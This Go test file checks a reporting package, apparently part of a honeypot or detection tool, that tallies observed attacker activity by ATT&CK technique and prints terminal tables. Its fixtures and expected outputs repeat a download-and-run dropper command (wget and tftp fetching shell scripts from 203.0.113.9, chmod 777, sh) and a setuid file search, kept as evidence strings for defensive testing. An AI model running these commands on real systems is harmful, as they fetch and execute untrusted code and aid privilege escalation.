package report

import (
	"bytes"
	"fmt"
	"runtime"
	"strings"
	"testing"
	"time"
	"unicode"
	"unicode/utf8"

	"github.com/google/go-cmp/cmp"

	"ttpctl/internal/attack"
	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// seen is a tag of the techniques table's inputs.
func seen(tactic, technique, rule, attacker, session, at, evidence string) event.Tag {
	t := event.Tag{
		AttackerUUID: attacker, Tactic: tactic, RuleID: rule, ObservedAt: at,
		Evidence: []byte(evidence), AttackRelease: "enterprise-v19.1",
	}
	if session != "" {
		t.SessionID = event.Some(session)
	}
	t.Technique, _, _ = strings.Cut(technique, ".")
	if technique != t.Technique {
		t.SubTechnique = technique
	}
	return t
}

func sample() []event.Tag {
	const wget = `{"command_text":"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh","matched":"wget http://203.0.113.9/bins.sh"}`
	tags := []event.Tag{
		seen("TA0011", "T1105", "R0018", "a1", "s1", "2026-03-18T10:26:00Z", wget),
		seen("TA0011", "T1105", "R0017", "a2", "s2", "2026-03-18T09:00:00+02:00", `{"command_text":"later"}`),
		seen("TA0011", "T1105", "R0018", "a1", "s3", "2026-03-19T01:02:59.9Z", wget),
		seen("TA0007", "T1083", "R0014", "a2", "s2", "2026-03-18T10:27:00Z", `{"command_text":"ls \u001b[31m"}`),
		seen("TA0004", "T1548.001", "R0015", "a2", "s2", "", `{"command_text":"find / -perm -4000"}`),
		seen("TA0005", "T1548.001", "R0015", "a2", "s2", "not a time", `{"n":1}`),
		seen("TA0006", "T1110.001", "R0002", "", "", "2026-03-18T10:28:00Z", `{"password_count":12}`),
		seen("TA0006", "T1110.001", "R0002", "a3", "s4", "2026-03-18T10:28:00Z", `{"username":"root"}`),
	}
	tags[1].AttackerIP = "203.0.113.2"
	return tags
}

func TestSummaryTechniques(t *testing.T) {
	s := NewSummary(catalogue())
	s.Add(sample())
	at := func(day, hour, minute, second, nano int) time.Time {
		return time.Date(2026, 3, day, hour, minute, second, nano, time.UTC)
	}
	e := attack.Enterprise
	want := []TechniqueCount{
		{"TA0011", "T1105", e, Count{N: 3}, 3, Count{N: 2}, Count{N: 3}, at(18, 7, 0, 0, 0), at(19, 1, 2, 59, 9e8), []string{"R0017", "R0018"},
			"cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh", Count{}},
		{"TA0006", "T1110.001", e, Count{N: 2}, 2, Count{N: 1}, Count{N: 1}, at(18, 10, 28, 0, 0), at(18, 10, 28, 0, 0), []string{"R0002"}, "password_count=12", Count{}},
		{"TA0007", "T1083", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, at(18, 10, 27, 0, 0), at(18, 10, 27, 0, 0), []string{"R0014"}, "ls \x1b[31m", Count{}},
		{"TA0004", "T1548.001", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "find / -perm -4000", Count{}},
		{"TA0005", "T1548.001", e, Count{N: 1}, 1, Count{N: 1}, Count{N: 1}, time.Time{}, time.Time{}, []string{"R0015"}, "n=1", Count{}},
	}
	if diff := cmp.Diff(want, s.Techniques()); diff != "" {
		t.Errorf("Techniques() (-want +got):\n%s", diff)
	}
}

// What a script repeats is one hit of a rule in a session.
func TestSummaryHits(t *testing.T) {
	s := NewSummary(catalogue())
	for _, tag := range []struct{ rule, session string }{{"R1", "s1"}, {"R1", "s1"}, {"R2", "s1"}, {"R1", "s2"}, {"R1", ""}, {"R1", ""}} {
		s.Add([]event.Tag{seen("TA0007", "T1082", tag.rule, "a", tag.session, "", "{}")})
	}
	if got := s.Techniques()[0]; got.Hits != (Count{N: 5}) || got.Tags != 6 || got.Sessions != (Count{N: 2}) {
		t.Errorf("%+v, want 5 hits in 6 tags, 2 sessions", got)
	}
}

func TestSummaryAttackers(t *testing.T) {
	s := NewSummary(catalogue())
	s.Add(sample())
	all := []AttackerCount{{"a2", "203.0.113.2", 4, 3}, {"a1", "", 2, 1}, {"a3", "", 1, 1}}
	for n := range 5 {
		want := append([]AttackerCount{}, all[:min(n, len(all))]...)
		if diff := cmp.Diff(want, s.Attackers(n)); diff != "" {
			t.Errorf("Attackers(%d) (-want +got):\n%s", n, diff)
		}
	}
}

// Ties have an order that does not depend on who came first.
// A finding of an identity has no attacker: who counts identities then, and
// says so.
func TestSummaryIdentities(t *testing.T) {
	s := NewSummary(catalogue())
	for _, id := range []string{"i1", "i2", "i1"} {
		tag := seen("TA0006", "T1110.003", "R0003", "", "", "", `{}`)
		tag.IdentityUUID = id
		s.Add([]event.Tag{tag})
	}
	s.Add([]event.Tag{seen("TA0006", "T1110.001", "R0002", "a1", "", "", `{}`)})
	var b strings.Builder
	if err := s.WriteText(&b, TextOptions{}); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"1 attacker, 2 identities", "T1110.003", "  2 identities  "} {
		if !strings.Contains(b.String(), want) {
			t.Errorf("no %q in:\n%s", want, b.String())
		}
	}
	for _, c := range s.Techniques() {
		if got := c.who(); c.Technique == "T1110.001" && got != any(Count{N: 1}) {
			t.Errorf("who of attackers alone = %v, want their count", got)
		}
	}
}

func TestSummaryTies(t *testing.T) {
	tags := []event.Tag{
		seen("TA0011", "T1105", "R2", "b", "", "", "{}"), seen("TA0007", "T1083", "R1", "a", "", "", "{}"),
		seen("TA0007", "T1082", "R1", "c", "", "", "{}"), seen("TA0002", "T1083", "R1", "d", "", "", "{}"),
	}
	var texts []string
	for range len(tags) {
		tags = append(tags[1:], tags[0])
		texts = append(texts, write(t, "table", Options{}, nil, tags))
		if texts[0] != texts[len(texts)-1] {
			t.Errorf("table of the same tags in another order =\n%swant\n%s", texts[len(texts)-1], texts[0])
		}
	}
}

func TestSummaryBeyondLimit(t *testing.T) {
	s := newSummary(nil, 2)
	for i := range 5 {
		name := fmt.Sprint("x", i)
		s.Add([]event.Tag{seen("TA0011", "T1105", "R1", name, name, "", "{}")})
	}
	s.Add([]event.Tag{seen("TA0007", "T1083", "R1", "x1", "x0", "", "{}")})
	got := s.Techniques()
	if more := (Count{2, true}); got[0].Attackers != more || got[0].Sessions != more {
		t.Errorf("T1105: attackers %v, sessions %v, want %v", got[0].Attackers, got[0].Sessions, more)
	}
	if one := (Count{1, false}); got[1].Attackers != one || got[1].Sessions != one {
		t.Errorf("T1083: attackers %v, sessions %v, want %v", got[1].Attackers, got[1].Sessions, one)
	}
	if text := s.Headline(); text != "2 techniques in 6 tags, 2+ attackers, 2+ sessions" {
		t.Errorf("headline() = %q", text)
	}
}

// A million attackers in a million sessions take no more than 60 MB.
func TestSummaryMemory(t *testing.T) {
	if testing.Short() {
		t.Skip("a million tags")
	}
	n := rounds.Of(t, 300_000, 1_000_000)
	before := heap()
	s := NewSummary(catalogue())
	tag := []event.Tag{seen("TA0011", "T1105", "R0018", "", "s", "2026-03-18T10:26:00Z", `{"matched":"x"}`)}
	for i := range n {
		tag[0].AttackerUUID = fmt.Sprintf("3a90f681-a007-5d06-8036-%012d", i)
		tag[0].SessionID.Value = tag[0].AttackerUUID
		s.Add(tag)
	}
	if got := heap() - before; got > 60<<20 {
		t.Errorf("summary of %d attackers and sessions takes %d MB, want at most 60", n, got>>20)
	} else {
		t.Logf("summary of %d attackers and sessions takes %d MB", n, got>>20)
	}
	if c := s.Techniques()[0]; c.Attackers != (Count{distinctLimit, true}) || c.Tags != n {
		t.Errorf("%d tags of %v attackers, want %d of %d+", c.Tags, c.Attackers, n, distinctLimit)
	}
}

func heap() int64 {
	var m runtime.MemStats
	runtime.GC()
	runtime.ReadMemStats(&m)
	return int64(m.HeapAlloc)
}

func TestSummaryText(t *testing.T) {
	tests := []struct {
		width int
		want  string
	}{
		{0, `
4 techniques in 8 tags, 3 attackers, 4 sessions, 2026-03-18 07:00 to 2026-03-19 01:02 UTC

HITS  TECHNIQUE  NAME                                                  TACTIC                ATTACKERS  SESSIONS  TAGS  FIRST SEEN        LAST SEEN         RULES
   3  T1105      Ingress Tool Transfer                                 Command and Control           2         3     3  2026-03-18 07:00  2026-03-19 01:02  R0017, R0018
      cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.sh; sh bins.sh; tftp 203.0.113.9 -c get t.sh
   2  T1110.001  Brute Force: Password Guessing                        Credential Access             1         1     2  2026-03-18 10:28  2026-03-18 10:28  R0002
      password_count=12
   1  T1083      File and Directory Discovery                          Discovery                     1         1     1  2026-03-18 10:27  2026-03-18 10:27  R0014
      ls \x1b[31m
   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Privilege Escalation          1         1     1                                      R0015
      find / -perm -4000
   1  T1548.001  Abuse Elevation Control Mechanism: Setuid and Setgid  Stealth                       1         1     1                                      R0015
      n=1

TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
   4           3  203.0.113.2        a2
   2           1                     a1
   1           1                     a3
`},
		{80, `
4 techniques in 8 tags, 3 attackers, 4 sessions, 2026-03-18 07:00 to 2026-03-19
01:02 UTC

HITS  TECHNIQUE  NAME                TACTIC        ATTACKERS  SESSIONS  RULES
   3  T1105      Ingress Tool        Command and           2         3  R0017,
                 Transfer            Control                            R0018
      tags 3; first seen 2026-03-18 07:00; last seen 2026-03-19 01:02
      cd /tmp || cd /var/run; wget http://203.0.113.9/bins.sh; chmod 777 bins.s…
   2  T1110.001  Brute Force:        Credential            1         1  R0002
                 Password Guessing   Access
      tags 2; first seen 2026-03-18 10:28; last seen 2026-03-18 10:28
      password_count=12
   1  T1083      File and Directory  Discovery             1         1  R0014
                 Discovery
      tags 1; first seen 2026-03-18 10:27; last seen 2026-03-18 10:27
      ls \x1b[31m
   1  T1548.001  Abuse Elevation     Privilege             1         1  R0015
                 Control Mechanism:  Escalation
                 Setuid and Setgid
      tags 1
      find / -perm -4000
   1  T1548.001  Abuse Elevation     Stealth               1         1  R0015
                 Control Mechanism:
                 Setuid and Setgid
      tags 1
      n=1

TAGS  TECHNIQUES  BUSIEST ATTACKERS  ATTACKER UUID
   4           3  203.0.113.2        a2
   2           1                     a1
   1           1                     a3
`},
	}
	for _, tt := range tests {
		got := write(t, "table", Options{Text: TextOptions{Width: tt.width}}, nil, sample())
		if diff := cmp.Diff(tt.want[1:], got); diff != "" {
			t.Errorf("table at width %d (-want +got):\n%s", tt.width, diff)
		}
	}
}

// Of one attacker there is nothing to rank.
func TestSummaryTextOneAttacker(t *testing.T) {
	const want = `
1 technique in 1 tag, 1 attacker, 1 session, 2026-03-18 10:26 to 2026-03-18 10:26 UTC

HITS  TECHNIQUE  NAME                   TACTIC               ATTACKERS  SESSIONS  TAGS  FIRST SEEN        LAST SEEN         RULES
   1  T1105      Ingress Tool Transfer  Command and Control          1         1     1  2026-03-18 10:26  2026-03-18 10:26  R0018
      cd /tmp; wget http://203.0.113.9/x.sh
`
	got := write(t, "table", Options{}, nil, []event.Tag{download()})
	if diff := cmp.Diff(want[1:], got); diff != "" {
		t.Errorf("table of one attacker (-want +got):\n%s", diff)
	}
}

// checkTerminal fails when out holds what a terminal would act on or a reader
// could not see, or a line wider than width.
func checkTerminal(t *testing.T, what, out string, width int) {
	t.Helper()
	if !utf8.ValidString(out) {
		t.Errorf("%s is not UTF-8: %.200q", what, out)
	}
	for _, r := range out {
		if r != '\n' && (unicode.IsControl(r) || unicode.Is(unicode.Cf, r)) {
			t.Errorf("%s holds %U: %.200q", what, r, out)
			break
		}
	}
	for line := range strings.Lines(out) {
		if got := cells(strings.TrimSuffix(line, "\n")); got > width {
			t.Errorf("%s has a line of %d cells, want at most %d: %.300q", what, got, width, line)
		}
	}
}

func TestSummaryTextFits(t *testing.T) {
	t.Parallel()
	for width := 60; width <= 200; width++ {
		var b bytes.Buffer
		s := NewSummary(catalogue())
		s.Add(sample())
		if err := s.WriteText(&b, TextOptions{Width: width}); err != nil {
			t.Fatal(err)
		}
		checkTerminal(t, fmt.Sprint("table at width ", width), b.String(), width)
		for _, want := range []string{"T1548.001", "R0017", "R0018", "2026-03-18", "01:02", "password_count=12"} {
			if !strings.Contains(b.String(), want) {
				t.Errorf("table at width %d lacks %s:\n%s", width, want, &b)
			}
		}
	}
}

func TestUnknownTechnique(t *testing.T) {
	got := write(t, "table", Options{}, nil, []event.Tag{seen("TA9999", "T9999.001", "X0001", "", "", "", "{}")})
	for _, want := range []string{"T9999.001", "TA9999", "X0001"} {
		if !strings.Contains(got, want) {
			t.Errorf("table of an unknown technique lacks %s:\n%s", want, got)
		}
	}
}

func TestDomainOf(t *testing.T) {
	tests := []struct {
		release string
		want    attack.Domain
	}{
		{"enterprise-v19.1", attack.Enterprise}, {"ics-v19.1", attack.ICS}, {"mobile-v19.1", attack.Mobile},
		{"", attack.Enterprise}, {"\x00", attack.Enterprise},
	}
	for _, tt := range tests {
		if got := domainOf(tt.release); got != tt.want {
			t.Errorf("domainOf(%q) = %q, want %q", tt.release, got, tt.want)
		}
	}
}
